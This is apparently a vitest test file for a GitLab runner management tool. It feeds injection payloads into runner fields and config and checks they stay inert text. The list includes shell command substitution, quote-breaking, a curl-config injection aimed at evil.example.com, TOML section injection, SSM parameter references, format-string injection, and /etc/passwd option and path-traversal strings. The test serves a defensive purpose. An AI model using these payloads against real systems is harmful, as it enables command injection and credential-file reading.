import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  makeApiTokenRequest,
  quiesceRunnerRequest,
  readRunnerRequest,
  registerRunnerRequest,
  unregisterRunnerRequest,
  updateRunnerRequest,
  writeRunnerRequest,
} from "../../../shared/resources/runner/host-requests.ts";
import { parseToml, renderToml } from "../../../shared/resources/runner/toml.ts";
import { RunnerWorld, registration } from "./runner-world.ts";

const scope = { runner_type: "instance_type" } as const;

/** What would do something if any shell, any configuration of curl, TOML, Ruby, JSON, SSM or Python took it for its own. */
const payloads: readonly (readonly [where: string, text: string])[] = [
  ["a shell's substitution", "$(touch /srv/fleetkeeper/pwned)`touch /srv/fleetkeeper/pwned`"],
  ["a shell's quotes", `'; touch /srv/fleetkeeper/pwned; '"; touch /srv/fleetkeeper/pwned; "`],
  ["a line of its own", "x\ntouch /srv/fleetkeeper/pwned\n"],
  ["curl's configuration", 'x"\nurl = "https://evil.example.com"\noutput = "/srv/fleetkeeper/pwned"\nheader = "X: y'],
  ["TOML", 'x"\n[[runners]]\nname = "evil"\ntoken = "evil"\nx = "'],
  ["a parameter of SSM", "{{ ssm:/fleetkeeper/acme/secrets/x }} {{ Nonce }}"],
  ["a format of Python and Ruby", "%s %d {0} {request} #{`touch /srv/fleetkeeper/pwned`}"],
  ["an option", "--config=/etc/passwd -K /etc/passwd"],
  ["a path", "../../../../etc/passwd"],
  ["controls and other scripts", "\u0001\u001b[31m\u007f\u2028 \u202e 日本語 \u{1f680} \\ \\\\ \t"],
];

describe("text of the file that means something to a program on the host", { shuffle: false }, () => {
  let world: RunnerWorld;
  beforeAll(async () => {
    world = await RunnerWorld.open();
    await world.hosts.done(makeApiTokenRequest(world.around()));
  });
  afterAll(() => world.close());

  it.each(payloads)("is text and no more in every field of a runner: %s", async (_, text) => {
    const section = {
      name: text,
      url: "https://gitlab.example.com",
      executor: "docker+machine",
      environment: [`A=${text}`],
      pre_build_script: text,
      docker: { image: text, volumes: [text], services: [{ name: text, command: [text] }], sysctls: { [text]: text } },
      machine: { MachineName: `${text}-%s`, MachineOptions: [`amazonec2-tags=a,${text}`] },
      feature_flags: { FF: true },
    };
    const config = { template: renderToml({ log_level: text, concurrent: 3n, runners: [section] }), exclusive: false };
    const attributes = {
      ...registration(text).attributes,
      description: text,
      tag_list: [text, "b"],
      maintenance_note: text,
    };
    const asked = { ...registration(text), attributes };
    await world.hosts.done(registerRunnerRequest(world.around(), config, asked));
    await world.hosts.done(writeRunnerRequest(world.around(), config, ["", text]));
    await world.hosts.done(updateRunnerRequest(world.around(), asked));
    const [runner] = world.gitlab.state.runners;
    expect(runner?.attributes).toMatchObject({ description: text, tagList: [text.trim(), "b"], maintenanceNote: text });
    const live = parseToml(await world.config());
    expect(live["log_level"]).toBe(text);
    expect(live["runners"]).toEqual([
      { ...section, id: BigInt(runner?.id ?? 0), token: runner?.token, ...times(live) },
    ]);
    const read = await world.hosts.done(readRunnerRequest(world.around(), config));
    expect(read).toMatchObject({ why: null, gitlab: { runners: { [text]: { tokenValid: true } } } });
    await world.hosts.done(quiesceRunnerRequest(world.around(), text, 0));
    await world.hosts.done(unregisterRunnerRequest(world.around(), text, scope));
    expect(world.gitlab.state.runners).toEqual([]);
    expect(parseToml(await world.config())["runners"]).toBeUndefined();
    await untouched();
  });

  it.each(payloads)("is refused or text and no more in a secret's name and GitLab's address: %s", async (_, text) => {
    const around = world.around();
    const config = { template: "concurrent = 1\n", exclusive: false };
    for (const gitlab of [
      { url: text, own: false, apiTokenSecret: "x" },
      { url: "https://gitlab.example.com", own: false, apiTokenSecret: text, registrationTokenSecret: text },
    ]) {
      const request = { ...around, gitlab };
      const read = await world.hosts.send(readRunnerRequest(request, config));
      expect(read.ok && (read.outcome.state === "done" || read.outcome.state === "failed")).toBe(true);
      const made = await world.hosts.send(registerRunnerRequest(request, config, registration("acme-build")));
      expect(made).toMatchObject({ ok: true, outcome: { state: "failed" } });
    }
    expect(world.gitlab.state.runners).toEqual([]);
    await untouched();
  });

  async function untouched(): Promise<void> {
    const { files } = await world.hosts.host();
    expect(files.exists("/srv/fleetkeeper/pwned")).toBe(false);
    const asked = world.hosts.record().calls.filter(({ program }) => program === "curl");
    expect(JSON.stringify(asked)).not.toContain("evil.example.com");
  }

  function times(config: ReturnType<typeof parseToml>) {
    const [section] = Array.isArray(config["runners"]) ? config["runners"] : [];
    const { token_obtained_at, token_expires_at } = Object(section);
    return { token_obtained_at, token_expires_at };
  }
});
